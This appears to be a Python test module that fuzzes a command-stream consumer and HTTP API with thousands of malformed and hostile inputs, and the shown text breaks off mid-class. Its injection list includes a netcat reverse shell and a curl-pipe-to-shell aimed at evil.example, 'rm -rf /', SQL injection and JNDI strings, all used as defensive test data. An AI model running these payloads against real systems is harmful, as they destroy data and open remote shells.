"""Hostile input at the two edges, generated in bulk from a seed.

1. The command stream: 10,000 malformed or hostile entries (every class the consumer must
   survive, mixed at random) with valid commands interleaved, read by the real consumer
   loop (`CommandConsumer.run`) against real Redis and Postgres. Each bad entry must end in
   the dead-letter stream exactly once with its reason, or, when it is a well-formed command
   that asks for something impossible, be answered `rejected`; each valid command must take
   effect exactly once; nothing else may reach `instances`; the consumer must still be
   consuming afterwards.
2. The HTTP API: a few hundred requests derived from the served OpenAPI document, nearly all
   made certainly invalid (wrong types, missing or unknown fields, values outside the
   documented bounds, malformed, deeply nested or oversized bodies, invalid UTF-8, hostile
   path and query values, bad credentials, wrong methods); the rest hostile but possibly
   valid, and only ever reads. No answer may be a 5xx or accept an invalid request, every
   status must be one the operation documents, every JSON error must match the documented
   `Error` schema, and nothing may be created or changed.

Every random choice comes from `random.Random(SEED)`; failure messages name the seed
(`CP_HOSTILE_SEED=<n>` replays or explores another one; `CP_HOSTILE_ENTRIES=<n>` sends fewer
stream entries than 10,000 for a quicker run).
"""

from __future__ import annotations

import asyncio
import base64
import copy
import json
import os
import random
import re
import sys
import time
import traceback
import urllib.parse
import uuid
from collections import Counter
from dataclasses import dataclass, field
from typing import Any

import pytest

from control_plane.commands import consumer as consumer_module
from control_plane.commands.consumer import CommandConsumer
from control_plane.commands.schema import NAMESPACE, SCHEMA_FILE, InvalidCommand, decode
from control_plane.db.engine import make_engine, make_sessionmaker
from control_plane.providers import Providers
from tests.conftest import eventually

SEED = int(os.environ.get("CP_HOSTILE_SEED", "20240611"))

HOSTILE_ENTRIES = int(os.environ.get("CP_HOSTILE_ENTRIES", "10000"))
VALID_CREATES = 200
VALID_STATE_REQUESTS = 20  # terminate/drain of instances created by the valid creates
STREAM_DRAIN_SECONDS = 15 + HOSTILE_ENTRIES / 170
"""Bound for consuming the whole stream: the consumer dead-letters ~280 entries/s on a busy
2-core machine (each costs a Postgres commit for its feed event), so 10,000 take ~36 s."""

# ---------------------------------------------------------------------------------------------
# Hostile values. Which of them a field accepts is decided by the published JSON Schema of the
# command (`command.schema.json`), read below: the generator never guesses.
# ---------------------------------------------------------------------------------------------

INJECTIONS = [
    "'; DROP TABLE instances;--", "\" OR 1=1 --", "1' OR '1'='1", "admin'--",
    "'); DELETE FROM processed_commands; --", "1; SELECT pg_sleep(10)", "' UNION SELECT * FROM api_keys --",
    "$(rm -rf /)", "`reboot`", "; shutdown -h now", "| nc evil.example 4444 -e /bin/sh",
    "&& curl http://evil.example/x | sh", "{{7*7}}", "${jndi:ldap://evil.example/a}", "#{7*7}",
    "<%= 7*7 %>", "{{config.__class__.__init__.__globals__}}", "${{7*7}}", "<script>alert(1)</script>",
    "../../../../etc/passwd", "..\\..\\windows\\win.ini", "%00", "%s%s%s%n", "\\x00", "*/ /*",
    "\r\nX-Injected: 1", "\" }, \"type\": \"instance.terminate", "__proto__", "{\"$gt\": \"\"}",
    "file:///etc/shadow", "javascript:alert(1)", "; DROP DATABASE postgres", "' OR pg_sleep(5)--",
]
UNICODE = [
    "\u202eevil\u202c", "\u200f", "\u200b", "\ufeff", "\U0001F600", "\U0001F469\u200d\U0001F469\u200d\U0001F467",
    "\U0001D573\U0001D58A", "e\u0301", "\uff21", "\ufb01", "\u0130", "\uffff", "\U0010FFFF", "\u00e4", "\u03a9",
    "\u2028", "\u0085", "\u043erg/model", "\u4e2d\u6587", "\u0627\u0644\u0639\u0631\u0628\u064a\u0629", "\u00a0",
]
CONTROL = ["\x00", "\x01", "\x07", "\t", "\n", "\r", "\x1b[31m", "\x1f", "a\x00b"]
INVALID_UTF8 = [b"\xff", b"\xfe", b"\xc0\x80", b"\xed\xa0\x80", b"\x80", b"\xe2\x82", b"\xf8\x88\x80\x80\x80",
                b"\xf4\x90\x80\x80", b"\xc3", b"\xe0\x80\xaf"]

_SCHEMA = json.loads(SCHEMA_FILE.read_text())
_DEFS = _SCHEMA["$defs"]


def _string_rule(node: dict) -> dict:
    if "anyOf" in node:
        return next(branch for branch in node["anyOf"] if branch.get("type") == "string")
    return node


RULES = {
    "id": _string_rule(_DEFS["CreateInstance"]["properties"]["id"]),
    "model": _string_rule(_DEFS["CreatePayload"]["properties"]["model"]),
    "provider": _string_rule(_DEFS["CreatePayload"]["properties"]["provider"]),
    "instance_type": _string_rule(_DEFS["CreatePayload"]["properties"]["instance_type"]),
    "zone": _string_rule(_DEFS["CreatePayload"]["properties"]["zone"]),
    "gpu_model": _string_rule(_DEFS["CreatePayload"]["properties"]["gpu_model"]),
    "revision": _string_rule(_DEFS["ModelSpec"]["properties"]["revision"]),
    "served_model_name": _string_rule(_DEFS["ModelSpec"]["properties"]["served_model_name"]),
    "extra_arg": _DEFS["ModelSpec"]["properties"]["extra_args"]["items"],
    "offer_provider": _string_rule(_DEFS["OfferChoice"]["properties"]["provider"]),
    "offer_instance_type": _string_rule(_DEFS["OfferChoice"]["properties"]["instance_type"]),
    "offer_zone": _string_rule(_DEFS["OfferChoice"]["properties"]["zone"]),
    "label_key": _DEFS["CreatePayload"]["properties"]["labels"]["propertyNames"],
    "label_value": _DEFS["CreatePayload"]["properties"]["labels"]["additionalProperties"],
    "reason": _string_rule(_DEFS["TerminatePayload"]["properties"]["reason"]),
}
RESERVED_ARG_PREFIXES = ("--model", "--host", "--port", "--served-model-name", "--revision",
                         "--tensor-parallel-size", "-tp", "--gpu-memory-utilization")


def accepts(rule: dict, value: Any) -> bool:
    """Whether a string field with this JSON-Schema rule accepts `value` (msgspec, like this,
    checks patterns with `re.search` and lengths in code points)."""
    if not isinstance(value, str):
        return False
    if not rule.get("minLength", 0) <= len(value) <= rule.get("maxLength", sys.maxsize):
        return False
    if "enum" in rule and value not in rule["enum"]:
        return False
    return "pattern" not in rule or re.search(rule["pattern"], value) is not None


def could_be_uuid(value: str) -> bool:
    """A superset of what the decoder takes as a UUID (32 hex digits, dashes allowed)."""
    return len(value) in (32, 36) and re.fullmatch(r"[0-9A-Fa-f-]+", value) is not None


# ---------------------------------------------------------------------------------------------
# Stream entries
# ---------------------------------------------------------------------------------------------

DEAD_INVALID = "invalid command: "
DEAD_TOO_BIG = "command is "
DEAD_NO_FIELD = "entry has no 'command' field"


@dataclass
class Entry:
    kind: str
    """dead (dead-lettered), accepted (valid: applied), rejected (valid shape, refused),
    duplicate (id of an earlier valid command: no effect)."""
    label: str
    """The generator class, for failure messages."""
    fields: dict[bytes, bytes]
    reason_prefix: str = ""
    command_id: str | None = None
    command: dict | None = None
    detail: str = ""
    """For `rejected`: a substring of the outcome's detail."""
    after: str | None = None
    """Command id this entry must follow in the stream."""
    entry_id: str = ""


def _id(rng: random.Random, prefix: str) -> str:
    """A fresh valid command id with some of the punctuation an id may carry."""
    tail = "".join(rng.choice("abcXYZ019-_.:/'\"$(){}<>|&;*`!#%+=?@[]^~,\\") for _ in range(rng.randint(0, 12)))
    value = f"{prefix}{rng.getrandbits(48):x}{tail}"
    assert accepts(RULES["id"], value), value
    return value


def _uuid(rng: random.Random) -> str:
    return str(uuid.UUID(int=rng.getrandbits(128), version=4))


def _valid_free_text(rng: random.Random, rule: dict, *, extra_arg: bool = False) -> str:
    """A value made of injection strings and unicode that the field nevertheless accepts."""
    while True:
        value = "".join(rng.choice(INJECTIONS + UNICODE) for _ in range(rng.randint(1, 3)))
        value = value[: rule.get("maxLength", 10_000)]
        if extra_arg and value.split("=", 1)[0] in RESERVED_ARG_PREFIXES:
            continue
        if accepts(rule, value):
            return value


def encode(command: Any, rng: random.Random) -> bytes:
    """JSON as producers in other languages might write it: escaped or raw UTF-8, compact or not."""
    if rng.random() < 0.5:
        return json.dumps(command, ensure_ascii=rng.random() < 0.5).encode()
    return json.dumps(command, ensure_ascii=False, separators=(",", ":")).encode()


class StreamFuzzer:
    """Generates the entries; every hostile one is invalid by construction (asserted where it
    depends on a pattern), every valid one valid by construction."""

    def __init__(self, seed: int) -> None:
        self.rng = random.Random(seed)
        self.valid_ids: list[str] = []
        self.created: list[Entry] = []

    # --- valid commands ----------------------------------------------------------------------

    def valid_create(self, n: int) -> Entry:
        rng = self.rng
        command_id = _id(rng, f"ok-{n}-")
        payload: dict[str, Any] = {"model": rng.choice(["org/model-1b", "meta-llama/Llama-3.2-1B-Instruct",
                                                        "a", "Org_9/m.o-d:e@v1", "x" * 512])}
        shape = rng.choice(["single", "single-zone", "offers", "cheapest"])
        if shape.startswith("single"):
            payload |= {"provider": "local", "instance_type": "local-gpu"}
            if shape == "single-zone":
                payload["zone"] = "local"
        elif shape == "offers":
            payload["offers"] = [{"provider": "local", "instance_type": "local-gpu"}]
        spec: dict[str, Any] = {}
        if rng.random() < 0.6:
            spec["gpu_memory_utilization"] = rng.choice([1, 1.0, 0.5, 5e-324, rng.uniform(0.01, 1)])
            spec["max_model_len"] = rng.choice([1, 10_000_000, rng.randint(1, 10_000_000)])
            spec["tensor_parallel_size"] = 1
            spec["revision"] = rng.choice(["main", "v1.0", "0123abc", "refs/pr/1"])
            spec["served_model_name"] = rng.choice(["m", "my-model:v1", "a/b.c"])
            spec["extra_args"] = [_valid_free_text(rng, RULES["extra_arg"], extra_arg=True)
                                  for _ in range(rng.randint(0, 3))]
            payload["model_spec"] = spec
        if rng.random() < 0.8:
            payload["labels"] = {f"k{i}.{rng.choice(['a', 'b/c', 'D-9'])}":
                                 _valid_free_text(rng, RULES["label_value"]) for i in range(rng.randint(1, 5))}
        if rng.random() < 0.3:
            payload["instance_id"] = _uuid(rng)
        command = {"version": 1, "id": command_id, "type": "instance.create", "payload": payload}
        if rng.random() < 0.3:  # producers may order keys any way
            command = dict(rng.sample(list(command.items()), 4))
        raw = encode(command, rng)
        entry = Entry("accepted", "valid create", {b"command": raw}, command_id=command_id, command=command)
        self.valid_ids.append(command_id)
        self.created.append(entry)
        return entry

    def valid_at_the_size_limit(self, n: int, limit: int) -> Entry:
        """A valid command padded with JSON whitespace to exactly the size limit."""
        entry = self.valid_create(n)
        raw = entry.fields[b"command"]
        entry.fields[b"command"] = raw + b" " * (limit - len(raw))
        entry.label = "valid create of exactly the size limit"
        return entry

    def state_request(self, of: Entry) -> Entry:
        """Terminate or drain an instance a valid create made; the reason is hostile free text."""
        rng = self.rng
        kind = rng.choice(["terminate", "drain"])
        command_id = _id(rng, f"{kind}-")
        reason = _valid_free_text(rng, RULES["reason"])
        command = {"version": 1, "id": command_id, "type": f"instance.{kind}",
                   "payload": {"instance_id": str(instance_id_of(of.command)), "reason": reason}}
        self.valid_ids.append(command_id)
        return Entry("accepted", f"valid {kind} of a created instance", {b"command": encode(command, rng)},
                     command_id=command_id, command=command, after=of.command_id)

    # --- hostile entries ---------------------------------------------------------------------

    def hostile(self) -> Entry:
        classes = [
            (18, self.wrong_type), (7, self.missing_field), (5, self.unknown_type), (5, self.unknown_version),
            (1, self.huge), (1.5, self.deeply_nested), (6, self.invalid_utf8), (8, self.unicode_in_field),
            (8, self.injection_in_field), (6, self.out_of_range), (7, self.not_json), (3, self.wrong_top_level),
            (2, self.empty), (6, self.extra_field), (4, self.no_command_field), (3, self.conflicting_fields),
            (3, self.over_limits), (2, self.raw_control_or_duplicate_key), (5, self.semantically_wrong),
            (1, self.duplicate_of_valid),
        ]
        make = self.rng.choices([c for _, c in classes], weights=[w for w, _ in classes])[0]
        return make()

    def _base(self, shape: str | None = None) -> dict:
        """A valid create (shape: where its offer comes from) to break in one place; one in ten
        borrows the id of a valid command (a bad entry must not block or change that one)."""
        rng = self.rng
        shape = shape or rng.choice(["single", "offers", "cheapest"])
        command_id = rng.choice(self.valid_ids) if self.valid_ids and rng.random() < 0.1 else _id(rng, "bad-")
        payload: dict[str, Any] = {"model": "org/model-1b"}
        if shape == "single":
            payload |= {"provider": "local", "instance_type": "local-gpu", "zone": "local"}
        elif shape == "offers":
            payload["offers"] = [{"provider": "local", "instance_type": "local-gpu", "zone": "local"}]
        else:
            payload["gpu_model"] = "simulated"
        payload["model_spec"] = {"revision": "main", "tensor_parallel_size": 1,
                                 "gpu_memory_utilization": 0.9, "max_model_len": 4096,
                                 "served_model_name": "m", "extra_args": ["--enforce-eager"]}
        payload["labels"] = {"team": "ml"}
        payload["instance_id"] = _uuid(rng)
        return {"version": 1, "id": command_id, "type": "instance.create", "payload": payload}

    def _state_base(self) -> dict:
        kind = self.rng.choice(["terminate", "drain"])
        return {"version": 1, "id": _id(self.rng, "bad-"), "type": f"instance.{kind}",
                "payload": {"instance_id": _uuid(self.rng), "reason": "maintenance"}}

    def _dead(self, label: str, raw: bytes | dict, prefix: str = DEAD_INVALID) -> Entry:
        fields = raw if isinstance(raw, dict) else {b"command": raw}
        return Entry("dead", label, fields, reason_prefix=prefix)

    # Paths into a create (or a terminate/drain, marked "state") with the wrong types for each.
    WRONG_TYPES: list[tuple[str, tuple, list]] = [
        ("create", ("version",), ["1", 1.0, True, None, [1], {"v": 1}, 1.5]),
        ("create", ("id",), [1, 1.5, True, None, [], {}, ["a"]]),
        ("create", ("type",), [1, None, True, [], {}, ["instance.create"]]),
        ("create", ("payload",), ["x", 1, None, [], True, [{"model": "m"}]]),
        ("create", ("payload", "model"), [1, None, True, [], {}, 1.5]),
        ("single", ("payload", "provider"), [1, True, [], {}, ["local"]]),
        ("single", ("payload", "instance_type"), [1, True, [], {}, 0.5]),
        ("single", ("payload", "zone"), [1, True, [], {"zone": "local"}]),
        ("offers", ("payload", "offers"), ["local", 1, {}, True, None]),
        ("offers", ("payload", "offers", 0), ["local", 1, None, [], True]),
        ("offers", ("payload", "offers", 0, "provider"), [1, None, [], {}, True]),
        ("offers", ("payload", "offers", 0, "instance_type"), [1, None, [], {}, True]),
        ("cheapest", ("payload", "gpu_model"), [1, True, [], {}]),
        ("create", ("payload", "model_spec"), ["x", 1, [], True, None]),
        ("create", ("payload", "model_spec", "tensor_parallel_size"), ["1", 1.5, True, None, [], {}]),
        ("create", ("payload", "model_spec", "gpu_memory_utilization"), ["0.5", True, [], {}]),
        ("create", ("payload", "model_spec", "max_model_len"), ["4096", 4096.5, True, [], {}]),
        ("create", ("payload", "model_spec", "revision"), [1, True, [], {}]),
        ("create", ("payload", "model_spec", "served_model_name"), [1, True, [], {}]),
        ("create", ("payload", "model_spec", "extra_args"), ["x", 1, {}, None, True]),
        ("create", ("payload", "model_spec", "extra_args", 0), [1, None, [], {}, True]),
        ("create", ("payload", "labels"), ["x", 1, [], None, True]),
        ("create", ("payload", "labels", "team"), [1, None, [], {}, True, 1.5]),
        ("create", ("payload", "instance_id"), [1, True, [], {}, "not-a-uuid", ""]),
        ("state", ("payload", "instance_id"), [None, 1, True, [], {}, "x"]),
        ("state", ("payload", "reason"), [1, True, [], {}]),
        ("state", ("payload",), [None, "x", [], 1]),
    ]

    def wrong_type(self) -> Entry:
        shape, path, values = self.rng.choice(self.WRONG_TYPES)
        command = self._state_base() if shape == "state" else self._base(None if shape == "create" else shape)
        _set(command, path, self.rng.choice(values))
        return self._dead(f"wrong type at {_dotted(path)}", encode(command, self.rng))

    def missing_field(self) -> Entry:
        rng = self.rng
        choice = rng.choice(["version", "id", "type", "payload", "model", "offer.provider",
                             "offer.instance_type", "instance_id", "everything"])
        if choice == "instance_id":
            command = self._state_base()
            del command["payload"]["instance_id"]
        elif choice.startswith("offer."):
            command = self._base("offers")
            del command["payload"]["offers"][0][choice.removeprefix("offer.")]
        elif choice == "model":
            command = self._base()
            del command["payload"]["model"]
        elif choice == "everything":
            command = {}
        else:
            command = rng.choice([self._base, self._state_base])()
            del command[choice]
        return self._dead(f"missing {choice}", encode(command, rng))

    def unknown_type(self) -> Entry:
        rng = self.rng
        value = rng.choice(["instance.explode", "INSTANCE.CREATE", "instance.create ", " instance.create",
                            "instance.create\u0000", "", "instance", "instance.delete", "instance.Create",
                            "instance.cr\u0435ate", "\u202einstance.create", "instance.create\u200b",
                            "instance.terminate;DROP TABLE instances", "command.create", "instance.*"]
                           + INJECTIONS)
        command = rng.choice([self._base, self._state_base])()
        command["type"] = value
        return self._dead("unknown type", encode(command, rng))

    def unknown_version(self) -> Entry:
        rng = self.rng
        command = self._base()
        command["version"] = rng.choice([0, 2, -1, 3, 99, 2**64, -(2**63), 10**30, "v1", "1.0", 1.000001])
        return self._dead("unknown version", encode(command, rng))

    def huge(self) -> Entry:
        """Over `command_max_bytes` (64 KiB by default; the test checks it is that)."""
        rng = self.rng
        command = self._base()
        kind = rng.choice(["padding", "label", "id", "one-megabyte", "limit+1"])
        raw = encode(command, rng)
        if kind == "padding":
            raw += b" " * (65_536 - len(raw) + rng.randint(1, 20_000))
        elif kind == "label":
            command["payload"]["labels"] = {f"k{i}": "v" * 256 for i in range(64)} | {"x": "y" * 70_000}
            raw = encode(command, rng)
        elif kind == "id":
            command["id"] = "i" * 70_000
            raw = encode(command, rng)
        elif kind == "one-megabyte":
            raw = (b'{"version":1,"id":"big","type":"instance.create","payload":{"model":"'
                   + b"m" * 1_048_576 + b'"}}')
        else:
            raw += b" " * (65_536 + 1 - len(raw))
        assert len(raw) > 65_536
        return self._dead(f"oversized ({kind})", raw, DEAD_TOO_BIG)

    def deeply_nested(self) -> Entry:
        rng = self.rng
        depth = rng.randint(1_000, 12_000)
        array = b"[" * depth + b"]" * depth
        obj = b'{"a":' * (depth // 3) + b"1" + b"}" * (depth // 3)
        head = b'{"version":1,"id":"deep","type":"instance.create"'
        kind = rng.choice(["payload after the type", "label value", "payload before the type",
                           "unknown field first", "version first, id nested", "object chain first",
                           "unclosed", "top-level array"])
        raw = {
            "payload after the type": head + b',"payload":' + array + b"}",
            "label value": head + b',"payload":{"model":"m","labels":{"a":' + array + b"}}}",
            "payload before the type": b'{"payload":' + array + b',"type":"instance.create","version":1,"id":"d"}',
            "unknown field first": b'{"extra":' + array + b',"version":1,"id":"d","type":"instance.create"}',
            "version first, id nested": b'{"version":1,"id":' + array + b"}",
            "object chain first": b'{"payload":' + obj + b',"type":"instance.create","version":1,"id":"d"}',
            "unclosed": b'{"payload":' + b"[" * depth,
            "top-level array": array,
        }[kind]
        return self._dead(f"deeply nested JSON ({kind})", raw[:65_536])

    def invalid_utf8(self) -> Entry:
        rng = self.rng
        marker = "MARKER7f3a"
        where = rng.choice(["id", "model", "label value", "label key", "reason", "type", "unknown key"])
        if where == "reason":
            command = self._state_base()
            command["payload"]["reason"] = marker
        else:
            command = self._base("single")
            if where == "id":
                command["id"] = marker
            elif where == "model":
                command["payload"]["model"] = marker
            elif where == "label value":
                command["payload"]["labels"] = {"team": marker}
            elif where == "label key":
                command["payload"]["labels"] = {marker: "v"}
            elif where == "type":
                command["type"] = marker
            else:
                command[marker] = 1
        bad = rng.choice(INVALID_UTF8)
        raw = json.dumps(command, ensure_ascii=False).encode().replace(marker.encode(), b"x" + bad + b"y")
        return self._dead(f"invalid UTF-8 in {where}", raw)

    # String fields of a create (or terminate/drain) and where they sit.
    STRING_FIELDS: list[tuple[str, str, tuple]] = [
        ("create", "id", ("id",)),
        ("create", "model", ("payload", "model")),
        ("single", "provider", ("payload", "provider")),
        ("single", "instance_type", ("payload", "instance_type")),
        ("single", "zone", ("payload", "zone")),
        ("cheapest", "gpu_model", ("payload", "gpu_model")),
        ("create", "revision", ("payload", "model_spec", "revision")),
        ("create", "served_model_name", ("payload", "model_spec", "served_model_name")),
        ("create", "extra_arg", ("payload", "model_spec", "extra_args", 0)),
        ("offers", "offer_provider", ("payload", "offers", 0, "provider")),
        ("offers", "offer_instance_type", ("payload", "offers", 0, "instance_type")),
        ("offers", "offer_zone", ("payload", "offers", 0, "zone")),
        ("create", "label_value", ("payload", "labels", "team")),
        ("create", "label_key", ("payload", "labels", None)),
        ("create", "instance_id", ("payload", "instance_id")),
        ("state", "instance_id", ("payload", "instance_id")),
        ("state", "reason", ("payload", "reason")),
        ("create", "type", ("type",)),
    ]

    def _hostile_string(self, catalog: list[str], label: str) -> Entry:
        """A catalog string in a string field that refuses it. Where a field would accept it
        (free text: label values, reasons, engine arguments), one character more is mixed
        in: a NUL, which every string field of a command refuses."""
        rng = self.rng
        shape, rule_name, path = rng.choice(self.STRING_FIELDS)
        value = "".join(rng.choice(catalog) for _ in range(rng.randint(1, 3)))
        if rule_name in ("instance_id", "type"):
            refused = not could_be_uuid(value) if rule_name == "instance_id" else value not in (
                "instance.create", "instance.terminate", "instance.drain")
        else:
            refused = not accepts(RULES[rule_name], value)
        if not refused:
            cut = rng.randint(0, len(value))
            value = value[:cut] + "\x00" + value[cut:]
            assert not accepts(RULES[rule_name], value), (rule_name, value)
        command = self._state_base() if shape == "state" else self._base(None if shape == "create" else shape)
        if path[-1] is None:
            command["payload"]["labels"] = {value: "v"}
        else:
            _set(command, path, value)
        return self._dead(f"{label} in {rule_name}", encode(command, rng))

    def unicode_in_field(self) -> Entry:
        return self._hostile_string(UNICODE + CONTROL, "unicode")

    def injection_in_field(self) -> Entry:
        return self._hostile_string(INJECTIONS, "injection string")

    def out_of_range(self) -> Entry:
        rng = self.rng
        path, values = rng.choice([
            (("payload", "model_spec", "tensor_parallel_size"), [0, -1, 65, 2**31, 2**63, 2**64, 10**40]),
            (("payload", "model_spec", "gpu_memory_utilization"), [0, 0.0, -0.1, 1.0000001, 2, 1e308, -1e308]),
            (("payload", "model_spec", "max_model_len"), [0, -5, 10_000_001, 2**63, -(2**63) - 1]),
            (("version",), [0, 2, 2**64, -(2**64)]),
        ])
        command = self._base()
        _set(command, path, rng.choice(values))
        raw = encode(command, rng)
        if rng.random() < 0.2:  # a number literal no float holds
            raw = encode(self._base(), rng).replace(b'"max_model_len": 4096', b'"max_model_len": 1e400').replace(
                b'"max_model_len":4096', b'"max_model_len":1e400')
            if b"1e400" not in raw:
                raw = b'{"version":1e400,"id":"n","type":"instance.create","payload":{"model":"m"}}'
        return self._dead(f"number out of range at {_dotted(path)}", raw)

    def not_json(self) -> Entry:
        rng = self.rng
        valid = encode(self._base(), rng)
        kind = rng.choice(["random bytes", "truncated", "yaml", "xml", "python repr", "trailing comma",
                           "comment", "single quotes", "NaN", "Infinity", "unquoted keys", "two objects",
                           "trailing garbage", "BOM", "base64", "gzip", "bare word", "hex"])
        raw = {
            "random bytes": lambda: rng.randbytes(rng.randint(1, 300)).replace(b"{", b"(").replace(b"[", b"("),
            "truncated": lambda: valid[: rng.randint(1, len(valid) - 1)],
            "yaml": lambda: b"version: 1\nid: y\ntype: instance.create\npayload:\n  model: m\n",
            "xml": lambda: b"<command><version>1</version><type>instance.create</type></command>",
            "python repr": lambda: repr(self._base()).encode(),
            "trailing comma": lambda: valid[:-1] + b",}",
            "comment": lambda: b"/* c */" + valid,
            "single quotes": lambda: valid.replace(b'"', b"'"),
            "NaN": lambda: valid.replace(b"0.9", b"NaN"),
            "Infinity": lambda: valid.replace(b"0.9", b"Infinity"),
            "unquoted keys": lambda: valid.replace(b'"version"', b"version"),
            "two objects": lambda: valid + valid,
            "trailing garbage": lambda: valid + rng.choice([b"x", b"}", b"]", b"\x00", b",", b"null"]),
            "BOM": lambda: b"\xef\xbb\xbf" + valid,
            "base64": lambda: base64.b64encode(valid),
            "gzip": lambda: __import__("gzip").compress(valid),
            "bare word": lambda: rng.choice([b"command", b"instance.create", b"undefined", b"None", b"True"]),
            "hex": lambda: valid.hex().encode(),
        }[kind]()
        if kind in ("NaN", "Infinity") and raw == valid:
            raw = b"NaN"
        return self._dead(f"not JSON ({kind})", raw)

    def wrong_top_level(self) -> Entry:
        rng = self.rng
        raw = rng.choice([b"null", b"true", b"false", b"1", b"-0", b"1e5", b'"instance.create"',
                          b"[]", b"{}", encode([self._base()], rng), encode(json.dumps(self._base()), rng),
                          b'{"command":' + encode(self._base(), rng) + b"}"])
        return self._dead("wrong top-level JSON", raw)

    def empty(self) -> Entry:
        rng = self.rng
        raw = rng.choice([b"", b" ", b"\n", b"\x00", b"\t\r\n "])
        return self._dead("empty command", raw)

    def extra_field(self) -> Entry:
        rng = self.rng
        command = self._base(rng.choice(["single", "offers"]))
        where, name = rng.choice([
            ((), "meta"), ((), "priority"), ((), "__proto__"), ((), "constructor"), ((), "Id"),
            ((), "ID"), ((), "payload "), ((), "version2"), ((), "\u202eid"), ((), ""),
            (("payload",), "colour"), (("payload",), "instanceType"), (("payload",), "Model"),
            (("payload",), "model "), (("payload",), "pool_id"), (("payload",), "status"),
            (("payload", "model_spec"), "tp"), (("payload", "model_spec"), "trust_remote_code"),
            (("payload", "offers", 0), "price"),
        ])
        if where == ("payload", "offers", 0):
            command = self._base("offers")
        _get(command, where)[name] = rng.choice([1, "x", None, True, [], {}, "'; DROP TABLE instances;--"])
        return self._dead(f"unknown field {name!r} at {_dotted(where) or '$'}", encode(command, rng))

    def no_command_field(self) -> Entry:
        rng = self.rng
        valid = encode(self._base(), rng)
        name = rng.choice([b"cmd", b"Command", b"COMMAND", b"command ", b" command", b"commands", b"payload",
                           b"data", b"", b"comm\x00and", b"\xffcommand", "command\u200b".encode()])
        fields = {name: valid}
        if rng.random() < 0.3:
            fields[b"other"] = b"x"
        return self._dead(f"no 'command' field ({name!r})", fields, DEAD_NO_FIELD)

    def conflicting_fields(self) -> Entry:
        rng = self.rng
        kind = rng.choice(["provider without instance_type", "instance_type without provider",
                           "zone without provider", "offers and gpu_model", "provider and offers",
                           "provider and gpu_model", "reserved engine argument"])
        command = self._base("single")
        payload = command["payload"]
        if kind == "provider without instance_type":
            del payload["instance_type"]
        elif kind == "instance_type without provider":
            del payload["provider"]
        elif kind == "zone without provider":
            del payload["provider"], payload["instance_type"]
        elif kind == "offers and gpu_model":
            command = self._base("offers")
            command["payload"]["gpu_model"] = "simulated"
        elif kind == "provider and offers":
            payload["offers"] = [{"provider": "local", "instance_type": "local-gpu"}]
        elif kind == "provider and gpu_model":
            payload["gpu_model"] = "simulated"
        else:
            payload["model_spec"]["extra_args"] = [rng.choice(["--port=1", "--model", "-tp", "--host=0.0.0.0",
                                                               "--revision=x", "--gpu-memory-utilization=1"])]
        return self._dead(f"conflicting fields ({kind})", encode(command, rng))

    def over_limits(self) -> Entry:
        rng = self.rng
        command = self._base("offers")
        payload = command["payload"]
        kind = rng.choice(["65 labels", "label key of 64", "label value of 257", "21 offers", "65 engine args",
                           "engine arg of 257", "id of 201", "model of 513", "reason of 1001", "empty id",
                           "empty model", "empty engine arg", "provider of 33", "model with '..'"])
        if kind == "65 labels":
            payload["labels"] = {f"k{i}": "v" for i in range(65)}
        elif kind == "label key of 64":
            payload["labels"] = {"k" * 64: "v"}
        elif kind == "label value of 257":
            payload["labels"] = {"k": "v" * 257}
        elif kind == "21 offers":
            payload["offers"] = [{"provider": "local", "instance_type": "local-gpu"}] * 21
        elif kind == "65 engine args":
            payload["model_spec"]["extra_args"] = ["--enforce-eager"] * 65
        elif kind == "engine arg of 257":
            payload["model_spec"]["extra_args"] = ["-" * 257]
        elif kind == "id of 201":
            command["id"] = "i" * 201
        elif kind == "model of 513":
            payload["model"] = "m" * 513
        elif kind == "reason of 1001":
            command = self._state_base()
            command["payload"]["reason"] = "r" * 1001
        elif kind == "empty id":
            command["id"] = ""
        elif kind == "empty model":
            payload["model"] = ""
        elif kind == "empty engine arg":
            payload["model_spec"]["extra_args"] = [""]
        elif kind == "provider of 33":
            payload["offers"][0]["provider"] = "p" * 33
        else:
            payload["model"] = "org/../model"
        return self._dead(f"over limits ({kind})", encode(command, rng))

    def raw_control_or_duplicate_key(self) -> Entry:
        rng = self.rng
        command = self._base("single")
        kind = rng.choice(["raw control character in a string", "duplicate key, last one invalid",
                           "duplicate type key, last one unknown"])
        if kind == "raw control character in a string":
            command["payload"]["labels"] = {"team": "MARK"}
            raw = json.dumps(command).encode().replace(b"MARK", b"a" + bytes([rng.randint(0, 31)]) + b"b")
        elif kind == "duplicate key, last one invalid":
            raw = json.dumps(command).encode()[:-1] + b', "id": "has space"}'
        else:
            raw = json.dumps(command).encode()[:-1] + b', "type": "instance.explode"}'
        return self._dead(kind, raw)

    def semantically_wrong(self) -> Entry:
        """Well-formed commands asking for what cannot be: answered `rejected`, not dead-lettered."""
        rng = self.rng
        command_id = _id(rng, "no-")
        kind = rng.choice(["terminate unknown instance", "drain unknown instance", "unknown instance type",
                           "unknown provider", "unknown zone", "unknown GPU model",
                           "provider that joins by itself", "instance id taken"])
        if kind in ("terminate unknown instance", "drain unknown instance"):
            missing = _uuid(rng)
            payload: dict[str, Any] = {"instance_id": missing}
            if rng.random() < 0.7:
                payload["reason"] = _valid_free_text(rng, RULES["reason"])
            command = {"version": 1, "id": command_id, "type": f"instance.{kind.split()[0]}", "payload": payload}
            return Entry("rejected", kind, {b"command": encode(command, rng)}, command_id=command_id,
                         command=command, detail=f"unknown instance {missing}")
        payload = {"model": "org/model-1b", "provider": "local", "instance_type": "local-gpu"}
        detail, after = "", None
        if kind == "unknown instance type":
            payload["instance_type"] = rng.choice(["h100-imaginary", "local-gpu-2", "LOCAL-GPU"])
            detail = "does not offer instance type"
        elif kind == "unknown provider":
            payload["provider"] = rng.choice(["aws", "gcp", "nosuchcloud", "local2"])
            detail = "unknown provider"
        elif kind == "unknown zone":
            payload["zone"] = rng.choice(["eu-west-1a", "nowhere", "LOCAL"])
            detail = "is not offered in zone"
        elif kind == "unknown GPU model":
            del payload["provider"], payload["instance_type"]
            payload["gpu_model"] = rng.choice(["H100", "B200 SXM", "A100-80GB"])
            detail = "no provider offers"
        elif kind == "provider that joins by itself":
            payload["provider"] = "onprem"
            detail = "join by themselves"
        else:
            original = rng.choice(self.created)
            payload["instance_id"] = str(instance_id_of(original.command))
            detail, after = "already exists", original.command_id
        command = {"version": 1, "id": command_id, "type": "instance.create", "payload": payload}
        return Entry("rejected", kind, {b"command": encode(command, rng)}, command_id=command_id,
                     command=command, detail=detail, after=after)

    def duplicate_of_valid(self) -> Entry:
